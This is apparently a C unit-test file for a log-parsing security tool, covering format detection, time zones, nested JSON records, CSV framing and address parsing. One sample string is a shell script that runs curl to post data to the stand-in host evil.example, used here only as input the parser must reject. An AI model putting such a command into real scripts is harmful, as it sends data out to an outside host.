/* test_log.c -- choosing a family, times and zones, framing, records inside records, ends. */
#include "said.h"

#include "evidence/log/columns.h"
#include "evidence/log/pairs.h"

/* ---- families ---- */

TEST(every_family_has_a_name_of_its_own_and_says_what_it_is)
{
	for (size_t i = 0; log_family_at(i); i++) {
		const struct log_family *f = log_family_at(i);

		assert_non_null(f->about);
		assert_non_null(f->probe);
		assert_non_null(f->parse);
		assert_ptr_equal(log_named(span_of(f->name)), f);
		assert_int_equal(f->probe(SPAN("")), 0);
	}
}

TEST(what_is_no_log_is_taken_for_none)
{
	static const char *const others[] = {
		"Dear colleagues,\n\nthe meeting is at 10:00 in room 4.\n\nRegards\n",
		"<!doctype html>\n<html><head><title>x</title></head><body class=\"a\" id=\"b\"></body></html>\n",
		"type,value,comment\nipv4,203.0.113.9,C2\ndomain,evil.example,C2\n",
		"\"first_seen_utc\",\"dst_ip\",\"dst_port\",\"c2_status\",\"malware\"\n\"2020-06-04 10:00:00\",\"203.0.113.9\",\"443\",\"online\",\"X\"\n",
		"id,dateadded,url,url_status,threat,tags\n1,2020-06-04 10:00:00,http://evil.example/a,online,malware,exe\n",
		"first_seen,sha256_hash,md5_hash,file_name,user\n2020-06-04,00,11,a.exe,x\n",
		"{\"type\":\"bundle\",\"id\":\"bundle--1\",\"spec_version\":\"2.0\",\"objects\":[{\"type\":\"indicator\",\"created\":\"2020-06-04T10:00:00Z\",\"pattern\":\"[ipv4-addr:value = '203.0.113.9']\"}]}\n",
		"{\"Event\":{\"info\":\"x\",\"timestamp\":\"1591264800\",\"Attribute\":[{\"type\":\"ip-dst\",\"value\":\"203.0.113.9\",\"to_ids\":true,\"timestamp\":\"1591264800\"}]}}\n",
		"{\"name\":\"package\",\"version\":\"1.0.0\",\"host\":\"x\"}\n",
		"[{\"indicator\":\"203.0.113.9\",\"timestamp\":\"2020-06-04T10:00:00Z\",\"user\":\"x\"}]\n",
		"127.0.0.1\tlocalhost\n203.0.113.9 evil.example\n",
		"user=root\nhome=/root\npath=/bin\nshell=/bin/sh\n",
		"minute,absorbance\n0,0.011\n10,0.204\n",
		"#!/bin/sh\nset -e\ncurl -s http://evil.example/ --data a=1 b=2 c=3\n",
		"config firewall address\n    edit \"x\"\n        set subnet 203.0.113.9 255.255.255.255\n    next\nend\n",
		"2020/05/02-08:00:00 ~gwx7~ 10.20.3.41 | 203.0.113.10 | q=7 k=0\n",
		"10.20.3.41,203.0.113.10,443,tcp\n10.20.3.42,203.0.113.10,443,tcp\n",
	};

	for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++) {
		struct arena arena;
		struct log log;

		said_open(&log, &arena, span_of(others[i]));
		if (log.family)
			test_fail("%s was taken for %s", others[i], log.family->name);
		arena_release(&arena);
	}
}

static struct log opened(struct arena *arena, const char *text)
{
	struct log log;

	said_open(&log, arena, span_of(text));
	return log;
}

TEST(a_source_says_what_kind_it_is_and_what_it_could_show)
{
	struct arena arena;
	struct log log = opened(&arena, "date=2020-06-04 time=10:00:00 devid=F type=traffic srcip=10.0.0.5 dstip=203.0.113.9 action=deny\n");

	assert_string_equal(log.people, "firewall");
	assert_true(log.shows & LOG_SHOWS(KIND_IPV4));
	assert_false(log.shows & LOG_SHOWS(KIND_DOMAIN));
	arena_release(&arena);

	/* A name server's log has addresses in it and shows no connection to any. */
	log = opened(&arena, "time,src_ip,query,answer\n2020-06-04 10:00:00,10.0.0.5,evil.example,203.0.113.9\n");
	assert_string_equal(log.people, "DNS");
	assert_true(log.shows & LOG_SHOWS(KIND_DOMAIN));
	assert_false(log.shows & LOG_SHOWS(KIND_IPV4));
	arena_release(&arena);

	/* So has a web server's. */
	log = opened(&arena, "203.0.113.9 - - [04/Jun/2020:10:00:00 +0200] \"GET / HTTP/1.1\" 200 5 \"-\" \"curl/7\"\n");
	assert_string_equal(log.people, "web server");
	assert_false(log.shows & LOG_SHOWS(KIND_IPV4));
	arena_release(&arena);
}

/* ---- time ---- */

#define ZONELESS "date=2020-06-04 time=10:00:00 devid=F type=traffic srcip=10.0.0.5 dstip=203.0.113.9 action=deny"
#define YEARLESS "Jun  6 20:10:11 gw1 kernel: DROP IN=eth0 OUT= SRC=203.0.113.5 DST=192.0.2.10 PROTO=TCP"

static int64_t moment(const char *rfc3339)
{
	struct civil c;

	assert_true(time_read(span_of(rfc3339), &c));
	return civil_moment(&c);
}

static void time_of(struct event *ev, const char *line, const struct zone *zone, int year,
		    const char *path, int64_t mtime)
{
	struct error e = { 0 };
	struct arena arena;
	struct log log;

	arena_init(&arena, 1u << 20);
	log_begin(&log, &arena);
	log.zone = zone;
	log.year = year;
	log.path = span_of(path);
	log.mtime = mtime;
	assert_int_equal(log_open(&log, span_of(line), &e), 0);
	assert_true(log_parse(&log, span_of(line), ev));
	arena_release(&arena);
}

TEST(a_record_without_a_zone_is_taken_as_utc_and_says_so)
{
	static struct event ev;

	time_of(&ev, ZONELESS, NULL, 0, "", TIME_NONE);
	assert_true(ev.time == moment("2020-06-04T10:00:00Z"));
	assert_int_equal(ev.zone, TIME_ASSUMED);
	assert_span_equal(ev.time_raw, SPAN("2020-06-04 time=10:00:00"));
}

TEST(a_zone_given_by_the_user_holds_for_records_without_one_only)
{
	static struct event ev;
	struct zone *zone;
	struct error e;

	assert_int_equal(zone_load(&zone, SPAN("+02:00"), &e), 0);
	time_of(&ev, ZONELESS, zone, 0, "", TIME_NONE);
	assert_true(ev.time == moment("2020-06-04T08:00:00Z"));
	assert_int_equal(ev.zone, TIME_CONFIGURED);
	time_of(&ev, ZONELESS " tz=\"-0500\"", zone, 0, "", TIME_NONE);
	assert_true(ev.time == moment("2020-06-04T15:00:00Z"));
	assert_int_equal(ev.zone, TIME_STATED);
	zone_free(zone);
}

TEST(an_epoch_counts_only_when_date_and_time_are_missing)
{
	static struct event ev;

	time_of(&ev, ZONELESS " eventtime=1000000000", NULL, 0, "", TIME_NONE);
	assert_true(ev.time == moment("2020-06-04T10:00:00Z"));
	time_of(&ev, "devid=F eventtime=1591264800123456789 type=traffic srcip=10.0.0.5 dstip=203.0.113.9 action=deny",
		NULL, 0, "", TIME_NONE);
	assert_true(ev.time == moment("2020-06-04T10:00:00.123456Z"));
	assert_int_equal(ev.zone, TIME_STATED);
}

TEST(a_record_without_a_year_gets_it_from_where_a_person_would_look)
{
	static struct event ev;
	int64_t later = moment("2021-02-01T00:00:00Z");

	time_of(&ev, YEARLESS, NULL, 0, "", TIME_NONE);
	assert_true(ev.time == TIME_NONE);
	time_of(&ev, YEARLESS, NULL, 0, "logs/messages-20200607.gz", later);
	assert_true(ev.time == moment("2020-06-06T20:10:11Z"));
	/* Rotated in May: its June is that of the year before. */
	time_of(&ev, YEARLESS, NULL, 0, "logs/messages-20200501", later);
	assert_true(ev.time == moment("2019-06-06T20:10:11Z"));
	time_of(&ev, YEARLESS, NULL, 0, "logs-1999/auth.2020-06", TIME_NONE);
	assert_true(ev.time == moment("2020-06-06T20:10:11Z"));
	time_of(&ev, YEARLESS, NULL, 0, "fw-2018.log", later);
	assert_true(ev.time == moment("2018-06-06T20:10:11Z"));
	time_of(&ev, YEARLESS, NULL, 0, "messages", later);
	assert_true(ev.time == moment("2020-06-06T20:10:11Z"));
	time_of(&ev, YEARLESS, NULL, 2017, "messages-20200607", later);
	assert_true(ev.time == moment("2017-06-06T20:10:11Z"));
}

TEST(the_29th_of_february_belongs_to_the_last_leap_year)
{
	static struct event ev;

	time_of(&ev, "Feb 29 20:10:11 gw1 kernel: DROP IN=eth0 OUT= SRC=203.0.113.5 DST=192.0.2.10 PROTO=TCP",
		NULL, 0, "messages-20220301", TIME_NONE);
	assert_true(ev.time == moment("2020-02-29T20:10:11Z"));
}

TEST(w3c_times_are_utc_by_specification_and_those_of_the_windows_firewall_are_not)
{
	static const char *const texts[] = {
		"#Fields: date time c-ip cs-method cs-uri-stem sc-status\n2020-06-04 10:00:00 203.0.113.9 GET / 200",
		"#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags path\n2020-06-04 10:00:00 ALLOW TCP 10.0.0.5 203.0.113.9 1 2 0 - SEND",
	};
	static const enum time_status zones[] = { TIME_STATED, TIME_ASSUMED };
	static struct event ev;

	for (size_t i = 0; i < 2; i++) {
		struct span text = span_of(texts[i]);
		struct arena arena;
		struct log log;

		said_open(&log, &arena, text);
		assert_true(log_parse(&log, log_record(&log, text, text.len), &ev));
		assert_int_equal(ev.zone, zones[i]);
		arena_release(&arena);
	}
}

TEST(shifting_the_zone_and_the_written_time_together_changes_nothing)
{
	static struct event ev;

	for (int hour = 0; hour < 24; hour++) {
		char line[300];

		snprintf(line, sizeof(line),
			 "date=2020-06-0%d time=%02d:30:00 tz=\"%+03d00\" devid=F srcip=10.0.0.5 dstip=203.0.113.9 action=deny",
			 4 + (12 + hour - 12) / 24, hour, hour - 12);
		time_of(&ev, line, NULL, 0, "", TIME_NONE);
		assert_true(ev.time == moment("2020-06-04T12:30:00Z"));
	}
}

/* ---- records inside records ---- */

TEST(a_raw_line_inside_json_is_read_and_its_fields_say_where_they_lie)
{
	static struct event ev;
	struct span line = SPAN("{\"_time\":\"2020-06-04T10:00:00Z\",\"host\":\"fw1\",\"_raw\":\"date=2020-06-04 time=10:00:00 tz=\\\"+0000\\\" devid=\\\"F\\\" srcip=10.0.0.5 dstip=203.0.113.9 action=\\\"deny\\\"\"}");
	struct arena arena;
	struct log log;
	const struct field *dst;

	said_open(&log, &arena, line);
	assert_true(log_parse(&log, line, &ev));
	assert_int_equal(ev.outcome, OUTCOME_REFUSED);
	assert_true(ev.nested);
	dst = event_find(&ev, MEANING_DST);
	assert_non_null(dst);
	assert_true(dst->value.ptr >= ev.nested_text.ptr &&
		    dst->value.ptr < ev.nested_text.ptr + ev.nested_text.len);
	assert_span_equal(ev.sensor, SPAN("fw1"));
	assert_null(event_find(&ev, MEANING_NESTED));
	arena_release(&arena);
}

TEST(text_inside_json_that_nobody_reads_leaves_a_hit_in_it_unjudged)
{
	assert_said("{\"time\":\"2020-06-04T10:00:00Z\",\"host\":\"app1\",\"message\":\"we saw 203.0.113.9 again, please look into it\"}",
		    "other unknown - > - at=2020-06-04T10:00:00Z computer=app1");
}

TEST(records_inside_records_end_somewhere)
{
	static struct event ev;
	struct buf text, next;
	struct arena arena;
	struct log log;

	buf_init(&text, 1u << 20);
	buf_text(&text, "date=2020-06-04 time=10:00:00 devid=F srcip=10.0.0.5 dstip=203.0.113.9 action=deny");
	for (int depth = 0; depth < 8; depth++) {
		buf_init(&next, 1u << 20);
		buf_text(&next, "{\"time\":\"2020-06-04T10:00:00Z\",\"host\":\"a\",\"message\":\"");
		for (size_t i = 0; i < text.len; i++) {
			if (text.ptr[i] == '"' || text.ptr[i] == '\\')
				buf_byte(&next, '\\');
			buf_byte(&next, text.ptr[i]);
		}
		buf_text(&next, "\"}");
		buf_release(&text);
		text = next;
		said_open(&log, &arena, buf_span(&text));
		assert_true(log_parse(&log, buf_span(&text), &ev));
		assert_int_equal(ev.class, depth < 3 ? EVENT_FLOW : EVENT_OTHER);
		arena_release(&arena);
	}
	buf_release(&text);
}

TEST(one_export_may_hold_the_lines_of_many_families)
{
	struct span text = SPAN(
		"{\"_time\":\"2020-06-04T10:00:00Z\",\"host\":\"a\",\"_raw\":\"1591264800.123 1 10.0.0.5 TCP_MISS/200 5 GET http://evil.example/ - HIER_DIRECT/203.0.113.9 -\"}\n"
		"{\"_time\":\"2020-06-04T10:00:00Z\",\"host\":\"b\",\"_raw\":\"203.0.113.9 - - [04/Jun/2020:10:00:00 +0000] \\\"GET / HTTP/1.1\\\" 200 5\"}\n"
		"{\"_time\":\"2020-06-04T10:00:00Z\",\"host\":\"c\",\"_raw\":\"Jun  4 10:00:00 gw1 kernel: DROP IN=eth0 OUT= SRC=203.0.113.5 DST=192.0.2.10 PROTO=TCP\"}\n");
	static const enum event_class classes[] = { EVENT_PROXY, EVENT_SERVER, EVENT_FLOW };
	static struct event ev;
	struct arena arena;
	struct log log;

	said_open(&log, &arena, text);
	for (int round = 0; round < 3; round++)
		for (size_t i = 0, at = 0; i < 3; i++) {
			struct span record = log_record(&log, text, at);

			assert_true(log_parse(&log, record, &ev));
			assert_int_equal(ev.class, classes[i]);
			at += record.len + 1;
		}
	arena_release(&arena);
}

/* ---- tables ---- */

TEST(the_user_names_the_columns_of_an_unknown_table)
{
	struct span text = SPAN("2020-06-04T10:00:00Z ~gwx7~ 10.20.3.41 | 103.0.113.10 | q=7 k=0\n"
				"2020-06-04T10:01:00Z ~gwx7~ 10.20.3.42 | 103.0.113.11 | q=7 k=1\n");
	static struct event ev;
	struct error e = { 0 };
	struct arena arena;
	struct log log;

	arena_init(&arena, 1u << 20);
	log_begin(&log, &arena);
	log.columns = SPAN("time=1,src=3,dst=5");
	assert_int_equal(log_open(&log, text, &e), 0);
	assert_true(log_parse(&log, log_record(&log, text, 70), &ev));
	assert_true(ev.time == moment("2020-06-04T10:01:00Z"));
	assert_true(ev.has_src && ev.has_dst);
	assert_span_equal(event_find(&ev, MEANING_SRC)->value, SPAN("10.20.3.42"));
	assert_span_equal(event_find(&ev, MEANING_DST)->value, SPAN("103.0.113.11"));
	arena_release(&arena);
}

TEST(a_mapping_that_says_nothing_is_an_error)
{
	static const char *const wrong[] = { "time", "time=0", "time=x", "time=1000", "=", "," };

	for (size_t i = 0; i < sizeof(wrong) / sizeof(wrong[0]); i++) {
		struct error e = { 0 };
		struct arena arena;
		struct log log;

		arena_init(&arena, 1u << 20);
		log_begin(&log, &arena);
		log.columns = span_of(wrong[i]);
		assert_int_equal(log_open(&log, SPAN("a,b,c\n"), &e), -1);
		assert_int_equal(e.code, ERR_USAGE);
		arena_release(&arena);
	}
}

/* Framing must not depend on where in a record the hit lies. */
static void check_framing(const char *family, struct span text, const char *const *records, size_t n)
{
	const struct log_family *f = log_named(span_of(family));
	size_t at = 0;

	for (size_t i = 0; i < n; i++) {
		struct span expected = span_of(records[i]);
		size_t begin = at + span_find(span_skip(text, at), expected);

		for (size_t k = 0; k < expected.len; k++)
			assert_span_equal(f->record(text, begin + k), expected);
		at = begin + expected.len;
	}
}

TEST(a_quoted_value_of_a_table_may_run_over_lines)
{
	static const char *const records[] = {
		"time,src,note", "1,10.0.0.5,\"two\nlines, \"\"quoted\"\"\nand three\"", "2,10.0.0.6,\"x\"",
		"3,10.0.0.7,it's 5\" long", "4,10.0.0.8,\"\"",
	};

	check_framing("table", SPAN("time,src,note\n1,10.0.0.5,\"two\nlines, \"\"quoted\"\"\nand three\"\r\n"
				    "2,10.0.0.6,\"x\"\n3,10.0.0.7,it's 5\" long\n4,10.0.0.8,\"\"\n"),
		      records, 5);
}

TEST(a_stray_quote_does_not_swallow_the_rest_of_a_table)
{
	struct buf text;
	struct span record;

	buf_init(&text, 4u << 20);
	buf_text(&text, "time,src,note\n1,10.0.0.5,\"never closed\n");
	while (text.len < 1u << 20)
		buf_text(&text, "2,10.0.0.6,plain\n");
	record = log_named(SPAN("table"))->record(buf_span(&text), text.len - 5);
	assert_span_equal(record, SPAN("2,10.0.0.6,plain"));
	record = log_named(SPAN("table"))->record(buf_span(&text), 70);
	assert_true(record.len < 70000);
	buf_release(&text);
}

/* One pass: with a look back to the front for each record this would take minutes. */
TEST(a_large_table_is_framed_in_one_pass_and_as_each_record_alone)
{
	struct buf text;
	struct arena arena;
	struct log log;
	struct span all;
	size_t records = 0;

	buf_init(&text, 64u << 20);
	buf_text(&text, "time,user,src_ip,dst_ip,action,note\n");
	while (text.len < 8u << 20)
		buf_printf(&text, "2020-06-04 10:00:00,u%zu,10.0.0.5,203.0.113.9,deny,\"%s\"\r\n",
			   text.len, text.len % 7 ? "one" : "two\nlines, \"\"quoted\"\"");
	all = buf_span(&text);
	said_open(&log, &arena, span_cut(all, 0, 65536));
	for (size_t at = 0; at < all.len;) {
		struct span record = log_record(&log, all, at);

		if (records++ < 2000)
			assert_span_equal(record, log.family->record(span_cut(all, 0, 400000), at));
		at = (size_t)(record.ptr - all.ptr) + record.len;
		while (at < all.len && ascii_space(all.ptr[at]))
			at++;
	}
	assert_true(records > 100000);
	/* The same place filled anew is framed anew. */
	memset(text.ptr, 'x', text.len);
	text.ptr[text.len / 2] = '\n';
	assert_int_equal(log_record(&log, all, all.len - 1).len, all.len - all.len / 2 - 1);
	buf_release(&text);
	arena_release(&arena);
}

TEST(windows_events_in_xml_are_framed_by_their_tags)
{
	static const char *const records[] = {
		"<Event xmlns=\"x\">\n<System>1</System></Event>", "<Event><System>2</System></Event>",
	};

	check_framing("winxml", SPAN("<?xml version=\"1.0\"?><Events><Event xmlns=\"x\">\n<System>1</System></Event>"
				     "<Event><System>2</System></Event></Events>"),
		      records, 2);
}

TEST(objects_of_an_array_are_records)
{
	static const char *const records[] = { "{\"a\":\"}\"}", "{\"b\":{\"c\":\"\\\"{\"}}" };

	check_framing("json_events", SPAN("[{\"a\":\"}\"},\n {\"b\":{\"c\":\"\\\"{\"}}]"), records, 2);
}

TEST(an_object_that_holds_records_is_none)
{
	assert_said("{\"Records\":[{\"eventTime\":\"2020-06-04T10:00:00Z\",\"sourceIPAddress\":\"203.0.113.9\",\"eventName\":\"a\"}]}",
		    "no");
}

TEST(columns_change_where_the_log_says_so)
{
	struct span text = SPAN("#Fields: date time c-ip sc-status\n2020-06-04 10:00:00 203.0.113.9 200\n"
				"#Fields: date time sc-status c-ip cs-method\n2020-06-04 10:00:00 404 203.0.113.7 GET\n");
	static struct event ev;
	struct arena arena;
	struct log log;
	struct span rest = text, line;
	size_t parsed = 0;

	said_open(&log, &arena, text);
	while (span_line(&rest, &line))
		if (log_parse(&log, line, &ev)) {
			parsed++;
			assert_int_equal(ev.outcome, parsed == 1 ? OUTCOME_DATA : OUTCOME_ANSWERED);
			assert_int_equal(ev.src.bytes[15], parsed == 1 ? 9 : 7);
		}
	assert_int_equal(parsed, 2);
	arena_release(&arena);
}

TEST(a_proxy_that_names_itself_in_its_header_is_the_sensor_of_its_records)
{
	struct span text = SPAN("#Software: SGOS 6.7\n#Remark: 1110000000 \"proxy1\" \"10.1.1.7\" \"main\"\n"
				"#Fields: date time c-ip sc-status s-action cs-method cs-host\n"
				"2020-06-04 10:00:00 10.0.0.5 200 TCP_NC_MISS GET evil.example\n");

	assert_string_equal(said_at(text, text.len - 3),
			    "proxy let-through 10.0.0.5 > - at=2020-06-04T10:00:00Z sensor=proxy1 | host:cs-host=evil.example");
}

/* ---- ends ---- */

TEST(an_end_is_read_with_its_port_in_every_spelling)
{
	static const struct {
		const char *text, *address;
		uint16_t port;
	} rows[] = {
		{ "10.0.0.1", "10.0.0.1", 0 }, { "10.0.0.1:443", "10.0.0.1", 443 },
		{ "10.0.0.1#53", "10.0.0.1", 53 }, { "[2001:db8::1]:443", "2001:db8::1", 443 },
		{ "[2001:db8::1]", "2001:db8::1", 0 }, { "2001:db8::1", "2001:db8::1", 0 },
		{ "::ffff:10.0.0.1", "10.0.0.1", 0 }, { " 10.0.0.1 ", "10.0.0.1", 0 },
		{ "10.0.0.1:", "10.0.0.1", 0 }, { "10.0.0.1:70000", NULL, 0 },
		{ "10.0.0.1:x", NULL, 0 }, { "10.0.0", NULL, 0 }, { "10.0.0.1.2", NULL, 0 },
		{ "[10.0.0.1", NULL, 0 }, { "", NULL, 0 }, { "-", NULL, 0 }, { "host", NULL, 0 },
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct span copy = tight_copy(span_of(rows[i].text));
		struct address a, expected;
		uint16_t port = 0;
		bool is = event_end_parse(copy, &a, &port);

		if (is != (rows[i].address != NULL))
			test_fail("%s", rows[i].text);
		if (is) {
			assert_true(address_parse(span_of(rows[i].address), &expected));
			assert_true(address_equal(&a, &expected));
			assert_int_equal(port, rows[i].port);
		}
		free((char *)copy.ptr);
	}
}

TEST(addresses_that_were_taken_out_are_counted_and_unset_ones_are_not)
{
	static const struct {
		const char *text;
		uint32_t masked;
	} rows[] = {
		{ "10.0.0.1", 0 }, { "-", 0 }, { "", 0 }, { "N/A", 0 }, { "unknown", 0 },
		{ "ws07.hospital.example", 0 }, { "localhost", 0 }, { "10.1.x.x", 1 },
		{ "xxx.xxx.xxx.xxx", 1 }, { "10.1.*.*", 1 }, { "***", 1 },
		{ "d41d8cd98f00b204e9800998ecf8427e", 1 }, { "qL8R4QIcQ/ZsRqOAbeRfcZhilN/MksRt==", 1 },
		{ "(redacted)", 1 }, { "10.0.0.0/24", 1 },
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct event ev;

		event_clear(&ev);
		event_src(&ev, SPAN("src"), span_of(rows[i].text));
		if (ev.masked != rows[i].masked)
			test_fail("\"%s\": %u", rows[i].text, (unsigned)ev.masked);
	}
}

TEST(swapping_the_ends_swaps_the_sides_and_nothing_else)
{
	assert_said("devid=F date=2020-06-04 time=10:00:00 srcip=10.0.0.5 srcintfrole=lan dstip=203.0.113.9 dstintfrole=wan action=deny",
		    "flow refused 10.0.0.5 > 203.0.113.9 at=2020-06-04T10:00:00Z src-local=1");
	assert_said("devid=F date=2020-06-04 time=10:00:00 srcip=203.0.113.9 srcintfrole=wan dstip=10.0.0.5 dstintfrole=lan action=deny",
		    "flow refused 203.0.113.9 > 10.0.0.5 at=2020-06-04T10:00:00Z src-local=0");
}

/* ---- pieces ---- */

TEST(pairs_are_taken_one_after_the_other)
{
	struct span rest = SPAN("<13>x: a=1 b=\"two \\\"words\\\"\" c='x y' d=e f g=http://h/?p=1&q=2, i:\"j\"; k= l=|m=n "), key, value;
	static const char *const expected[] = { "a", "1", "b", "two \\\"words\\\"", "c", "x y", "d", "e f",
						"g", "http://h/?p=1&q=2", "i", "j", "k", "", "l", "",
						"m", "n" };
	size_t n = 0;

	while (pair_next(&rest, &key, &value)) {
		assert_true(n + 1 < sizeof(expected) / sizeof(expected[0]));
		assert_span_equal(key, span_of(expected[n]));
		assert_span_equal(value, span_of(expected[n + 1]));
		n += 2;
	}
	assert_int_equal(n, sizeof(expected) / sizeof(expected[0]));
}

TEST(values_of_a_row_are_what_rfc_4180_says)
{
	struct columns c = { .separator = ',', .quotes = true };
	struct span rest = SPAN("a,\"b,c\",\"d\"\"e\",,\"\","), value;
	static const char *const expected[] = { "a", "b,c", "d\"\"e", "", "", "" };

	for (size_t i = 0; i < 6; i++) {
		assert_true(columns_value(&c, &rest, &value));
		assert_span_equal(value, span_of(expected[i]));
	}
	assert_false(columns_value(&c, &rest, &value));
}
